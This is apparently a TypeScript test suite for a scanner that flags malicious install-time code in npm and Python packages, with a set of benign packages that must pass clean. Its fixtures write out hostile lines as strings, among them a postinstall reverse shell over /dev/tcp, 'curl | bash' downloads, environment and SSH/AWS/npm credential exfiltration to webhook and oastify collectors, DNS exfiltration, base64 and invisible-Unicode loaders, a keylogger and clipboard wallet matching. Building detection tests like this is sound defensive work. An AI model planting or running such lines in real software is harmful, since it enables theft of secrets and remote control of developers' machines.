import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { examinePackage, mayThreaten } from './examine-package.ts';
import type { ThreatFinding } from './threat.ts';

type Files = Readonly<Record<string, string>>;

function examine(files: Files): readonly ThreatFinding[] {
  return examinePackage(Object.entries(files).map(([path, text]) => ({ path, text })));
}

function withInstall(command: string, files: Files = {}): Files {
  return {
    'package.json': JSON.stringify({ name: 'x', scripts: { postinstall: command } }),
    ...files,
  };
}

const collector = `https://discord.com/api/webhooks/${'1'.repeat(18)}/x`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const names = Array.from(
  { length: 40 },
  (_, n) => `var _0x${(0xa1b2c0 + n).toString(16)}=${n};`,
).join('');
const shell = `require('child_process').execSync('id'); require('https').get('https://example.com');`;
const invisible = Array.from(base64(shell), (letter) =>
  String.fromCodePoint(0xe0100 + (letter.codePointAt(0) ?? 0)),
).join('');

/** What it is a sample of (harmless: no address is anybody's), the package, path and least score of the finding. */
const samples: readonly (readonly [string, Files, string, number])[] = [
  [
    'a decoded text is evaluated',
    { 'index.js': `const a = require('https');\neval(atob('${base64('1')}'));` },
    'index.js',
    8,
  ],
  [
    'a decoded text is compiled',
    {
      'a.js': `const c = require('child_process');\nnew module.constructor()._compile(Buffer.from(x, 'hex').toString(), '');`,
    },
    'a.js',
    8,
  ],
  [
    'Python runs what it decodes at install',
    { 'setup.py': `import base64\nexec(base64.b64decode('cHJpbnQ='))\n` },
    'setup.py',
    8,
  ],
  [
    'Python runs marshalled code',
    {
      'a/__init__.py': `import marshal, zlib, subprocess\nexec(marshal.loads(zlib.decompress(d)))`,
    },
    'a/__init__.py',
    8,
  ],
  [
    'Python runs an answer',
    { 'setup.py': `import requests\nexec(requests.get('https://example.com/x').text)` },
    'setup.py',
    8,
  ],
  [
    'a path file runs code at each start',
    { 'x.pth': `import os, base64, subprocess;exec(base64.b64decode('cHJpbnQ='))` },
    'x.pth',
    8,
  ],
  [
    'JavaScript runs an answer from an address without a name',
    {
      'a.js': `require('http').get('http://203.0.113.9/p', (r) => r.on('data', (data) => eval(data.toString())));`,
    },
    'a.js',
    8,
  ],
  [
    'obfuscated names and a program',
    { 'a.js': `${names}require('child_process');process.env.A` },
    'a.js',
    6,
  ],
  ['obfuscated names and a wallet', { 'a.js': `${names}window.ethereum.request()` }, 'a.js', 8],
  [
    'escaped text',
    {
      'a.js': `const a='${'\\x68\\x74\\x74\\x70'.repeat(20)}';require('child_process').exec(a);fetch(a)`,
    },
    'a.js',
    6,
  ],
  [
    'numbers instead of text',
    {
      'a.js': `const a=String.fromCharCode(${'104,116,'.repeat(20)}1);require('child_process').exec(a);fetch(a)`,
    },
    'a.js',
    6,
  ],
  [
    'invisible text',
    { 'a.js': `const s = (v) => v;\neval(s('${invisible}'));fetch('https://example.com')` },
    'a.js',
    8,
  ],
  [
    'code behind spaces',
    { 'a.py': `import os${' '.repeat(400)};import subprocess;subprocess.run('id')` },
    'a.py',
    8,
  ],
  [
    'code as base64',
    { 'a.js': `const p = '${base64(shell.repeat(3))}';\nconst f = new Function('r', decode(p));` },
    'a.js',
    7,
  ],
  [
    'credentials of two programs sent',
    {
      'a.js': `const fs=require('fs');for (const f of ['.ssh/id_rsa','.aws/credentials']) fetch('https://example.com',{body:fs.readFileSync(f)})`,
    },
    'a.js',
    6,
  ],
  [
    'credentials sent to a collector',
    {
      'a.py': `import requests\nfor f in ['/.npmrc', '.ssh/id_rsa']:\n  requests.post('https://webhook.site/01234567-89ab', data=open(f).read())`,
    },
    'a.py',
    8,
  ],
  [
    'files of a browser',
    {
      'a.py': `import os, requests\np = os.environ['APPDATA'] + '\\\\Discord\\\\Local Storage\\\\leveldb'\nrequests.post('https://example.com', data=open(p).read())`,
    },
    'a.py',
    7,
  ],
  [
    'a collector gets the machine',
    {
      'a.js': `const os=require('os');fetch('${collector}',{body:os.hostname()+os.userInfo().username+os.homedir()})`,
    },
    'a.js',
    6,
  ],
  [
    'a collector is told at install',
    withInstall('node lib/tell', {
      'lib/tell.js': `require('./send')`,
      'lib/send.js': `require('https').get('https://a1b2c3d4.oastify.com')`,
    }),
    'lib/send.js',
    8,
  ],
  [
    'the machine is surveyed at install',
    withInstall('node i.js', {
      'i.js': `const os=require("os"),https=require("https");const d={h:os.hostname(),u:os.userInfo(),d:os.homedir(),e:process.env.X};https.request("https://example.com")`,
    }),
    'i.js',
    5,
  ],
  [
    'the environment is sent',
    {
      'a.js': `fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) })`,
    },
    'a.js',
    5,
  ],
  [
    'the environment is sent at install',
    withInstall('node a.js', {
      'a.js': `fetch('https://example.com', { body: JSON.stringify(process.env) })`,
    }),
    'a.js',
    8,
  ],
  [
    'Python sends the environment',
    {
      'setup.py': `import os, json, urllib.request\nurllib.request.urlopen(u, json.dumps(dict(os.environ)))`,
    },
    'setup.py',
    8,
  ],
  [
    'keys are listened to',
    {
      'a.py': `from pynput import keyboard\nimport requests\nrequests.post('https://example.com')`,
    },
    'a.py',
    7,
  ],
  [
    'addresses in the clipboard',
    {
      'a.py': `import pyperclip, re\nre.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste())`,
    },
    'a.py',
    7,
  ],
  [
    'a page with a wallet',
    { 'a.js': `${names}XMLHttpRequest.prototype.open = f; if (window.ethereum) {}` },
    'a.js',
    8,
  ],
  [
    'a shell for another machine',
    {
      'a.py': `import socket,subprocess,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])`,
    },
    'a.py',
    6,
  ],
  [
    'a shell for another machine at install',
    withInstall(`bash -c 'bash -i >& /dev/tcp/203.0.113.9/99 0>&1'`),
    'package.json',
    9,
  ],
  [
    'a script fetches and runs',
    withInstall('curl -s https://example.com/x.sh | bash'),
    'package.json',
    8,
  ],
  [
    'a script sends',
    withInstall('curl -X POST -d "$(env)" https://a1b2c3d4.oastify.com'),
    'package.json',
    8,
  ],
  [
    'a script of a shell',
    withInstall('sh ./pre.sh', {
      'pre.sh': 'IP=x\ncurl http://203.0.113.9/download/x -o x && chmod +x x && ./x\n',
    }),
    'pre.sh',
    7,
  ],
  [
    'a name is looked up with what is known',
    withInstall('nslookup $(whoami).a1b2c3d4.oast.fun'),
    'package.json',
    8,
  ],
  [
    'PowerShell with encoded command',
    withInstall('powershell -w hidden -enc SQBFAFgA'),
    'package.json',
    6,
  ],
  [
    'node evaluates in a script',
    withInstall(`node -e "eval(Buffer.from('Y29uc29sZQ==','base64').toString())"`),
    'package.json',
    8,
  ],
  [
    'it publishes itself',
    {
      'a.js': `const {execSync}=require('child_process');const t=[fs.readFileSync('.npmrc'),'~/.npmrc','.ssh/id_rsa'];fetch('https://example.com/-/whoami');execSync('npm publish')`,
    },
    'a.js',
    7,
  ],
  [
    'it searches for secrets',
    withInstall('node b.js', {
      'b.js': `const c=require('child_process');c.exec('trufflehog filesystem /');fetch('https://example.com')`,
    }),
    'b.js',
    7,
  ],
];

test('what meets in one file is found, with its reasons', () => {
  const told = samples.flatMap(([what, files, path, least]) => {
    const found = examine(files);
    const [finding] = found;
    const isRight =
      found.length === 1 &&
      finding?.path === path &&
      finding.score >= least &&
      finding.score <= 10 &&
      finding.reasons.length > 0;
    return isRight ? [] : [[what, ...found.map((each) => [each.path, each.score])]];
  });
  assert.deepEqual(told, []);
});

/** Each is half of something, or what honest packages do. */
const honest: readonly Files[] = [
  {
    'a.js': `const cp = require('child_process'); const https = require('https'); cp.spawn('git', { env: process.env });`,
  },
  { 'a.js': names },
  { 'a.js': `const secrets = ['.ssh/', '.aws/credentials', '/.npmrc']; module.exports = secrets;` },
  { 'a.js': `// eval(atob('x')) is what they do\nrequire('https');` },
  { 'a.js': `const image = '${base64('\u0089PNG'.repeat(60))}'; new Function('a', image)` },
  { 'a.js': `retrieval(atob(x)); page.eval(atob(y)); fetch(z)` },
  {
    'a.js': `fetch('http://127.0.0.1:3000'); fetch('http://192.168.1.1'); require('child_process')`,
  },
  {
    'a.js': `const docs = 'see https://discord.com/api/webhooks/ for more'; process.env.A; fetch(x)`,
  },
  { 'a.d.ts': `eval(atob('x')); require('https')` },
  withInstall('node-gyp rebuild'),
  withInstall('node install.js', {
    'install.js': `const https=require('https'),fs=require('fs'),os=require('os');https.get('https://example.com/'+os.platform()).pipe(fs.createWriteStream(os.homedir()+process.cwd()));process.env.X`,
  }),
  withInstall(`node -e "try{require('./postinstall')}catch(e){}"`, {
    'postinstall.js': `console.log(process.env.ADBLOCK)`,
  }),
  {
    'setup.py': `import os, subprocess\nfrom setuptools import setup\nsubprocess.run(['make'])\nexec(open('version.py').read())\nsetup(name='x')`,
  },
  { 'distutils.pth': `import os; var = 'X'; os.environ.get(var) and __import__('hack').add()` },
  { 'package.json': '{' },
  {},
];

test('half of it, or what honest packages do, is not told', () => {
  for (const files of honest) {
    assert.deepEqual(examine(files), [], JSON.stringify(files).slice(0, 200));
  }
});

test('the line of the first threat is told', () => {
  const [finding] = examine({ 'a.js': `require('https');\n\n\neval(atob('x'));\n` });
  assert.equal(finding?.line, 4);
});

test('declarations, documents and data are not looked at', () => {
  assert.deepEqual(
    ['a.js', 'b/c.mjs', 'setup.py', 'x.pth', 'i.sh', 'package.json'].map(mayThreaten),
    Array.from({ length: 6 }, () => true),
  );
  assert.deepEqual(
    ['a.d.ts', 'README.md', 'a.json', 'a.node', 'sub/package.json'].map(mayThreaten),
    Array.from({ length: 5 }, () => false),
  );
});

test('no text makes it throw or take long', () => {
  const piece = fc.constantFrom(
    'eval(',
    'atob(',
    '\\x61',
    ' '.repeat(300),
    '_0xabcdef',
    '"',
    'A'.repeat(500),
    'process.env',
    '/dev/tcp/',
    '\n',
    'fetch(',
    '\u{e0101}',
    'curl ',
    '|sh',
    '{"scripts":{"install":"',
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 60 }),
      fc.constantFrom('a.js', 'setup.py', 'package.json', 'x.sh'),
      (parts, path) => {
        for (const { score, line } of examine({ [path]: parts.join('') })) {
          assert.ok(score >= 5 && score <= 10 && line >= 1);
        }
      },
    ),
    { numRuns: 500, seed: 4 },
  );
});
